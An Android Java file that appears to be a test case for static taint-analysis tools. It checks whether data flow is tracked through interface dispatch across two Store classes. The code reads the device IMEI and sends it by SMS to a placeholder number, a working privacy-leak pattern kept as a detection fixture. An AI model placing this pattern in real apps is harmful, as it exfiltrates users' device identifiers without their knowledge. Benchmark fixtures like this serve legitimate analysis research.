// about       Two classes implement one interface; the object that keeps what it gets is asked.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  interface Store {
    void put(String text);

    String get();
  }

  static class MemoryStore implements Store {
    private String text = "empty";

    @Override
    public void put(String text) {
      this.text = text;
    }

    @Override
    public String get() {
      return text;
    }
  }

  static class NullStore implements Store {
    @Override
    public void put(String text) {}

    @Override
    public String get() {
      return "nothing";
    }
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    Store[] stores = {new MemoryStore(), new NullStore()};
    Store memory = stores[0];
    Store nothing = new NullStore();
    memory.put(phone.getDeviceId());
    nothing.put(phone.getDeviceId());
    // The store that keeps the value.
    String text = memory.get();
    SmsManager.getDefault().sendTextMessage("+15550100", null, text, null, null);
  }
}
